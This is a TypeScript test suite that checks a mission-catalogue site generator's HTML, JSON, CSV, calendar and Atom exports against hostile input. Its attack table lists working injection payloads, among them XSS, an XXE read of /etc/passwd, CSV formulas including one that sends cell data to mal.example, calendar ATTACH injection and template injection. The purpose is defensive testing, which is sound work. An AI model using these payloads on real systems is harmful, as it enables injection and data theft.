import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { parseFragment } from "parse5"
import { afterAll, describe, expect, test } from "vitest"
import type { EditionView, SiteView } from "../../src/model/views.ts"
import { missionsAtom } from "../../src/output/atom.ts"
import { buildJson, editionFacts } from "../../src/output/build-json.ts"
import { missionsCsv } from "../../src/output/csv.ts"
import { writeExports } from "../../src/output/exports.ts"
import { calendarIcs } from "../../src/output/ics.ts"
import { missionsJson } from "../../src/output/json.ts"
import { siteView } from "../../src/output/views.ts"
import { all, readCsv, readIcs, readXml } from "./readers.ts"
import { catalogue, edition, fiche, options, proposal } from "./sample.ts"

// What the checker would refuse, given to the outputs all the same: each must be harmless on its own.
const attacks: { [name: string]: string } = {
  script: "</script><script>alert(1)</script>",
  cdata: "]]><evil/><![CDATA[",
  attribute: `" onmouseover="alert(1)" x='`,
  entity: "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
  formula: "=cmd|'/c calc'!A1",
  link: '=HYPERLINK("https://mal.example/?"&A1)',
  plus: "+1+cmd",
  at: "@SUM(1+1)",
  wide: "＝1+1",
  tab: "\t=1+1",
  cell: '";"x"\r\n=1',
  event: "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:mal",
  bare: "x\nATTACH:https://mal.example/",
  separator: "x\u2028ATTACH:https://mal.example/",
  parameter: 'a;VALUE=URI:"mal,\\',
  bidi: "facture\u202efdp.exe\u2066\u200b",
  nul: "a\u0000b\u0007\u001b[31m\u009b",
  surrogate: "a\ud800b\udfff",
  proto: "__proto__",
  template: "{{ 7*7 }} {% include '/etc/passwd' %} $" + "{7*7} <%= 7*7 %>",
  long: "é😀".repeat(3000),
}

const moment = new Date("2025-07-18T09:00:00Z")
const folder = mkdtempSync(join(tmpdir(), "hostile-"))
afterAll(() => rmSync(folder, { recursive: true }))

/** An édition where every value that a person may type is the attack. */
function attacked(text: string): SiteView {
  const data = {
    ...fiche,
    intitule: text,
    resume: text,
    themes: [text],
    collectivite: { ...fiche.collectivite, nom: text, adresse: text, adresse_accueil: text },
    tuteur: { ...fiche.tuteur, fonction: text },
    contexte: text,
    enjeux: `### ${text}\n\n- ${text}\n\n[${text}](https://ville.example)`,
  }
  const texts = { titre: text, contact: { service: text, courriel: text }, themes: [text], attendus: [text] }
  return siteView([catalogue([proposal("a", data)], { edition: { ...edition, ...texts } })], options)
}

describe.each(Object.entries(attacks))("%s", (_, text) => {
  const site = attacked(text)
  const view = first(site)
  const marks =
    /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069]/
  const lone = /\p{Cs}/u

  test("HTML holds our elements and no live address", () => {
    for (const { html } of view.missions[0]?.sections ?? []) {
      const seen = JSON.stringify(parseFragment(html), (key, value) => (key === "parentNode" ? undefined : value))
      expect(seen).not.toMatch(/"(nodeName|tagName)":"(script|evil|img|svg|iframe|style)"/)
      expect(seen).not.toMatch(/"name":"(on\w+|style|src)"/)
      expect(html).not.toMatch(marks)
      expect(html).not.toMatch(lone)
    }
  })

  test("JSON is one object that says the same", () => {
    const json = [...missionsJson(site, view)].join("")
    const { missions } = JSON.parse(json)
    expect(missions).toHaveLength(1)
    expect(missions[0].intitule).toBe(view.missions[0]?.intitule)
    expect(json.replaceAll("\n", "")).not.toMatch(marks)
    expect(Object.getPrototypeOf(missions[0])).toBe(Object.prototype)
  })

  test("CSV has its rows and columns, and nothing calculates", () => {
    const csv = [...missionsCsv(site, view)].join("")
    const rows = readCsv(csv)
    expect(rows).toHaveLength(2)
    expect(rows[1]).toHaveLength(rows[0]?.length ?? 0)
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
    expect(csv.replace(/^\ufeff/, "")).not.toMatch(marks)
  })

  test("the calendar has its nine events, and nothing more in them", () => {
    const { events } = readIcs(calendarIcs(site, view, moment))
    expect(events).toHaveLength(9)
    for (const event of events) expect(event).not.toHaveProperty("attach")
    const names = Object.keys(events[1] ?? {}).sort()
    expect(names).toEqual(["description", "dtend", "dtstamp", "dtstart", "sequence", "summary", "transp", "uid", "url"])
  })

  test("the feed has its one entry and our elements", () => {
    const feed = readXml(missionsAtom(site, view, moment))
    expect(all(feed, "entry")).toHaveLength(1)
    const names = new Set(
      [...feed.children, ...all(feed, "entry").flatMap(entry => entry.children)].map(({ name }) => name),
    )
    expect([...names].sort()).toEqual("author category entry generator id link summary title updated".split(" "))
  })

  test("files are written where they must be", () => {
    writeExports(site, folder, moment)
    expect(readdirSync(folder)).toEqual(["2025-2026"])
  })
})

test("build.json names the fiche that was left out and counts those that wait", () => {
  const waiting = [proposal("a"), proposal("b", { statut: "recue" }), proposal("c", { statut: "non-retenue" })]
  const left = {
    path: "proposals/2025-2026/d.md",
    slug: "d",
    statut: "retenue",
    reason: "2 points bloquants",
    blocking: 2,
  }
  const catalogues = [catalogue(waiting, { leftOut: [left] })]
  const facts = { moment, preview: false, versions: { node: "v20" }, placeholders: ["editeur"], pdf: null }
  const site = siteView(catalogues, options)
  const text = buildJson(site, editionFacts(site, catalogues), facts)
  expect(JSON.parse(text)).toEqual({
    generator: "missions",
    version: "0.1.0",
    versions: { node: "v20" },
    moment: "2025-07-18T09:00:00.000Z",
    url: "https://stages.example/",
    base: "/",
    preview: false,
    editions: [
      { name: "2025-2026", missions: 1, withdrawn: 0, waiting: { recue: 1, "non-retenue": 1 }, leftOut: [left] },
    ],
    pdf: null,
    placeholders: ["editeur"],
  })
})

test("the same sources give the same bytes", () => {
  const bytes = () => {
    writeExports(attacked("x"), folder, moment)
    return readdirSync(join(folder, "2025-2026")).map(name => readFileSync(join(folder, "2025-2026", name), "utf8"))
  }
  expect(bytes()).toEqual(bytes())
})

function first(site: SiteView): EditionView {
  const [one] = site.editions
  if (!one) throw new Error("No édition")
  return one
}
